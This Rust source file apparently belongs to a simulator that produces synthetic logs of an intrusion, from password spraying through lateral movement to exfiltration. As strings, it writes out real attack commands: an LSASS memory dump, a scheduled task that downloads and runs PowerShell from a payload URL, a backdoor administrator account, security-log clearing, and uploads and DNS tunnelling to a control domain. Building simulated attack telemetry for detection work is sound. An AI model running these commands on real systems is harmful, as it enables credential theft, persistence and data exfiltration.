//! The intruder: carries out the plan, step by step.

use std::sync::Arc;

use chrono::{DateTime, TimeDelta, Utc};

use super::{Intrusion, Step};
use crate::activity::{
    AccountCreated, Activity, DirectoryChange, ExplicitCredentials, LogCleared, LogonType,
    MemberAdded, OfficeAction, OfficeWork, Process, SignIn, SignInResult, Task, VpnLogin,
};
use crate::company::{Company, Host, Role};
use crate::internet::{INTRUDER_BROWSER, OUTLOOK_WEB};
use crate::programs::{
    CMD, NET, POWERSHELL, Program, RUNDLL32, SCHTASKS, WEVTUTIL, WHOAMI, WMIPRVSE,
};
use crate::world::{LogonShape, Traffic, World};

/// The intruder and what they hold so far.
pub(crate) struct Intruder<'c> {
    plan: &'c Intrusion,
    /// The command prompt on the victim's workstation.
    prompt: Option<Arc<Process<'c>>>,
    /// The PowerShell that talks to the command-and-control server.
    beacon: Option<Arc<Process<'c>>>,
    /// The WMI provider on each of the two servers, and the logon that it works for.
    providers: Vec<(Arc<Process<'c>>, i64)>,
}

impl<'c> Intruder<'c> {
    /// The intruder before the first step.
    pub(crate) fn new(plan: &'c Intrusion) -> Self {
        Self { plan, prompt: None, beacon: None, providers: Vec::new() }
    }

    /// Takes `step`. Steps are taken in order; one whose ground is missing leaves no trace.
    pub(crate) fn take(&mut self, step: Step, world: &mut World<'c>) {
        let time = self.plan.time(step);
        match step {
            Step::PasswordSpray => self.spray(world, time),
            Step::CloudSignIn => self.sign_in(world, time),
            Step::RemoteDesktop => self.open_desktop(world, time),
            Step::EncodedPowerShell => self.run_encoded_command(world, time),
            Step::CredentialDump => self.dump_credentials(world, time),
            Step::LateralMovement => self.move_on(world, time),
            Step::Persistence => self.dig_in(world, time),
            Step::Exfiltration => self.carry_off(world, time),
        }
    }

    /// Two passes over the same people, a password each; the gateway gets a share.
    fn spray(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let company = world.company;
        let gateway = &company.of_role(Role::Gateway)[0];
        let mut when = time;
        for (pass, share) in [(0, 1000), (1, 450)] {
            for (number, &target) in self.plan.sprayed.iter().enumerate() {
                // The second password is the victim's: that attempt is the next step.
                if pass == 1 && (target == self.plan.victim || !world.dice.chance(share)) {
                    continue;
                }
                let account = &company.people[target].account;
                world.happen(when, self.attempt(company, target, SignInResult::InvalidPassword));
                if pass == 0 && number % 2 == 0 {
                    let shape = LogonShape {
                        logon_type: LogonType::Network,
                        address: (&self.plan.spray_address).into(),
                        workstation: (&self.plan.client).into(),
                        elevated: false,
                        seen_by_defender: true,
                    };
                    let later = world.soon(when, 4_000);
                    world.fail_to_log_on(later, gateway, account, shape);
                }
                // At most 85 attempts, each within 38 seconds of the last: under 55 minutes.
                when = world.soon(when + TimeDelta::seconds(20), 18_000);
            }
        }
    }

    fn attempt(&self, company: &'c Company, person: usize, result: SignInResult) -> Activity<'c> {
        Activity::SignIn(SignIn {
            account: &company.people[person].account,
            address: (&self.plan.spray_address).into(),
            town: self.plan.town,
            app: OUTLOOK_WEB,
            browser: &INTRUDER_BROWSER,
            device: None,
            result,
        })
    }

    /// The password fits: mail is read and hidden, a second factor registered, the VPN opened.
    fn sign_in(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let plan = self.plan;
        let company = world.company;
        let victim = plan.victim(company);
        world.happen(time, self.attempt(company, plan.victim, SignInResult::Success));
        let office = |world: &mut World<'c>, minutes: i64, work: OfficeWork<'c>| {
            let action = OfficeAction {
                account: victim,
                address: (&plan.spray_address).into(),
                user_agent: INTRUDER_BROWSER.user_agent,
                work,
            };
            let when = world.soon(time + TimeDelta::minutes(minutes), 50_000);
            world.happen(when, Activity::Office(action));
        };
        for minute in 3..17 {
            let items = world.dice.between(8, 90);
            let operation = "MailItemsAccessed";
            office(world, minute, OfficeWork::Mail { operation, folder: r"\Inbox", items });
        }
        let parameters = vec![
            ("Name", ".".into()),
            ("SubjectOrBodyContainsWords", "password;security;phish;hacked;invoice".into()),
            ("MoveToFolder", "RSS Feeds".into()),
            ("MarkAsRead", "True".into()),
            ("StopProcessingRules", "True".into()),
        ];
        office(world, 19, OfficeWork::InboxRule { parameters });
        let registration = DirectoryChange {
            operation: "User registered security info",
            category: "UserManagement",
            service: "Authentication Methods",
            by: victim,
            address: (&plan.spray_address).into(),
            target_id: (&victim.object_id).into(),
            target_name: (&victim.display_name).into(),
            target_upn: (&victim.upn).into(),
            target_kind: "User",
            change: None,
            reason: "User registered Authenticator App with Notification and Code",
        };
        let when = world.soon(time + TimeDelta::minutes(31), 50_000);
        world.happen(when, Activity::Directory(registration));
        let login = VpnLogin {
            account: victim,
            address: (&plan.spray_address).into(),
            country: plan.town.country,
            tunnel: (&plan.tunnel).into(),
            client: (&plan.client).into(),
            system: INTRUDER_BROWSER.system,
        };
        let when = world.soon(time + TimeDelta::minutes(62), 50_000);
        world.happen(when, Activity::Vpn(login));
    }

    fn open_desktop(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let [workstation, ..] = self.plan.hosts(world.company);
        let victim = self.plan.victim(world.company);
        let shape = LogonShape {
            logon_type: LogonType::RemoteInteractive,
            address: (&self.plan.tunnel).into(),
            workstation: (&self.plan.client).into(),
            elevated: false,
            seen_by_defender: true,
        };
        let session = world.desktop(time, workstation, victim, shape, 9);
        let when = world.soon(session.shell.started + TimeDelta::seconds(70), 30_000);
        let line = format!("\"{}\"", CMD.path);
        let id = session.logon_id;
        let prompt = world.start(when, &session.shell, &CMD, line.into(), victim, id);
        self.prompt = Some(prompt);
    }

    /// The encoded command, and from then on a beacon every few minutes until the end.
    fn run_encoded_command(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let Some(prompt) = &self.prompt else { return };
        let line = self.plan.encoded_command_line();
        let (victim, id) = (prompt.account, prompt.logon_id);
        let beacon = world.start(time, prompt, &POWERSHELL, line.into(), victim, id);
        let mut when = world.soon(beacon.started, 900);
        let end = self.plan.time(Step::Exfiltration) + TimeDelta::minutes(100);
        let mut first = true;
        while when < end {
            let received = if first { 284_113 } else { world.dice.between(300, 2_400) };
            let traffic = Traffic {
                url: if first { (&self.plan.payload_url).into() } else { "".into() },
                sent: world.dice.between(400, 1_900) as i64,
                received: received as i64,
                seconds: 1,
                ..self.to_control_server()
            };
            self.look_up_control_server(world, when, beacon.host);
            let later = world.soon(when, 400);
            world.connect(later, beacon.host, Some(victim), Some(Arc::clone(&beacon)), traffic);
            when = world.soon(when + TimeDelta::seconds(540), 120_000);
            first = false;
        }
        self.beacon = Some(beacon);
    }

    fn to_control_server(&self) -> Traffic<'c> {
        Traffic {
            address: (&self.plan.control_address).into(),
            port: 443,
            name: (&self.plan.control_domain).into(),
            url: "".into(),
            category: "unknown",
            application: "ssl",
            sent: 0,
            received: 0,
            seconds: 0,
        }
    }

    fn look_up_control_server(&self, world: &mut World<'c>, time: DateTime<Utc>, host: &'c Host) {
        let addresses = (&self.plan.control_address).into();
        world.look_up(time, host, (&self.plan.control_domain).into(), "A", addresses);
    }

    fn dump_credentials(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let Some(beacon) = &self.beacon else { return };
        let (victim, id) = (beacon.account, beacon.logon_id);
        let line = "\"C:\\Windows\\System32\\whoami.exe\" /all";
        world.start(time, beacon, &WHOAMI, line.into(), victim, id);
        let lsass = world.services(time, beacon.host).security_authority.id;
        let line = format!(
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass} {} full",
            self.plan.dump
        );
        let when = world.soon(time + TimeDelta::minutes(4), 60_000);
        world.start(when, beacon, &RUNDLL32, line.into(), victim, id);
    }

    /// With the dumped password to both servers, and a command there through WMI.
    fn move_on(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let Some(beacon) = self.beacon.clone() else { return };
        let company = world.company;
        let service = self.plan.service(company);
        let [workstation, second, third] = self.plan.hosts(company);
        for (server, minutes) in [(second, 0), (third, 14)] {
            let when = time + TimeDelta::minutes(minutes);
            let explicit =
                ExplicitCredentials { process: Arc::clone(&beacon), target: service, server };
            world.happen(when, Activity::ExplicitCredentials(explicit));
            let when = world.soon(when, 200);
            let shape = LogonShape::network(workstation, true, true);
            let logon_id = world.log_on(when, server, service, shape);
            world.log_off(
                when + TimeDelta::minutes(290),
                server,
                service,
                LogonType::Network,
                logon_id,
            );
            let launcher = world.services(when, server).launcher;
            let when = world.soon(when, 900);
            let line = format!("{} -secured -Embedding", WMIPRVSE.path);
            let network_service = &company.network_service;
            let provider =
                world.start(when, &launcher, &WMIPRVSE, line.into(), network_service, 0x3e4);
            self.providers.push((Arc::clone(&provider), logon_id));
            self.command(world, when, self.providers.len() - 1, &WHOAMI, "whoami /all");
        }
    }

    /// Runs `line` through WMI on one of the two servers; returns when it ran.
    fn command(
        &self,
        world: &mut World<'c>,
        time: DateTime<Utc>,
        server: usize,
        program: &'c Program,
        line: &str,
    ) -> DateTime<Utc> {
        let Some((provider, logon_id)) = self.providers.get(server) else { return time };
        let service = self.plan.service(world.company);
        let output = world.dice.between(1_700_000_000, 1_799_999_999);
        let shell = format!(r"cmd.exe /Q /c {line} 1> \\127.0.0.1\ADMIN$\__{output} 2>&1");
        let shell = world.start(time, provider, &CMD, shell.into(), service, *logon_id);
        let later = world.soon(shell.started, 300);
        let process =
            world.start(later, &shell, program, line.to_owned().into(), service, *logon_id);
        process.started
    }

    /// A task, a local administrator and an empty log, on the first server.
    fn dig_in(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let Some((_, logon_id)) = self.providers.first() else { return };
        let plan = self.plan;
        let (logon_id, service) = (*logon_id, plan.service(world.company));
        let [_, server, _] = plan.hosts(world.company);
        let fetch = format!(
            "-NoProfile -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('{}')\"",
            plan.payload_url
        );
        let line = format!(
            "schtasks /create /f /ru SYSTEM /sc minute /mo 30 /tn \"{}\" /tr \"powershell.exe {}\"",
            plan.task_name,
            fetch.replace('"', "\\\"")
        );
        let when = self.command(world, time, 0, &SCHTASKS, &line);
        let task = Task {
            host: server,
            account: service,
            logon_id,
            name: (&plan.task_name).into(),
            command: "powershell.exe".into(),
            arguments: fetch.into(),
        };
        let when = world.soon(when, 200);
        world.happen(when, Activity::Task(task));

        let user = &plan.new_user;
        let line = format!("net user {user} Autumn-{}! /add", world.dice.between(1000, 9999));
        let when = self.command(world, time + TimeDelta::minutes(9), 0, &NET, &line);
        let created = AccountCreated {
            host: server,
            by: service,
            logon_id,
            domain: (&server.name).into(),
            name: user.into(),
            display_name: user.into(),
            sid: (&plan.new_user_sid).into(),
        };
        let when = world.soon(when, 200);
        world.happen(when, Activity::AccountCreated(created));

        let line = format!("net localgroup Administrators {user} /add");
        let when = self.command(world, time + TimeDelta::minutes(11), 0, &NET, &line);
        let added = MemberAdded {
            host: server,
            by: service,
            logon_id,
            member: "".into(),
            member_sid: (&plan.new_user_sid).into(),
            group: "Administrators",
            group_sid: "S-1-5-32-544",
        };
        let when = world.soon(when, 200);
        world.happen(when, Activity::MemberAdded(added));

        let when = self.command(
            world,
            time + TimeDelta::minutes(26),
            0,
            &WEVTUTIL,
            "wevtutil cl Security",
        );
        let when = world.soon(when, 200);
        world
            .happen(when, Activity::LogCleared(LogCleared { host: server, by: service, logon_id }));
    }

    /// The shares of the second server leave in a few large uploads; small pieces leave by DNS.
    fn carry_off(&mut self, world: &mut World<'c>, time: DateTime<Utc>) {
        let plan = self.plan;
        let Some((provider, logon_id)) = self.providers.get(1) else { return };
        let service = plan.service(world.company);
        let host = provider.host;
        let line = format!(
            "{} copy D:\\Shares\\Finance remote:in --transfers 4 --no-check-certificate --remote https://{}/in",
            plan.uploader.path, plan.control_domain
        );
        let uploader = world.start(time, provider, &plan.uploader, line.into(), service, *logon_id);
        let mut when = world.soon(uploader.started, 2_000);
        for _ in 0..world.dice.between(6, 9) {
            self.look_up_control_server(world, when, host);
            let seconds = world.dice.between(240, 600);
            let traffic = Traffic {
                url: format!("https://{}/in", plan.control_domain).into(),
                sent: world.dice.between(140_000_000, 620_000_000) as i64,
                received: world.dice.between(40_000, 400_000) as i64,
                seconds: seconds as i64,
                ..self.to_control_server()
            };
            let later = world.soon(when, 500);
            world.connect(later, host, None, Some(Arc::clone(&uploader)), traffic);
            when = world.soon(when + TimeDelta::seconds(seconds as i64), 120_000);
        }
        let mut when = time + TimeDelta::minutes(6);
        for _ in 0..world.dice.between(48, 64) {
            let name =
                format!("{}.{}.{}", world.dice.hex(48), world.dice.hex(12), plan.control_domain);
            world.look_up(when, host, name.into(), "TXT", "".into());
            when = world.soon(when + TimeDelta::seconds(25), 45_000);
        }
    }
}
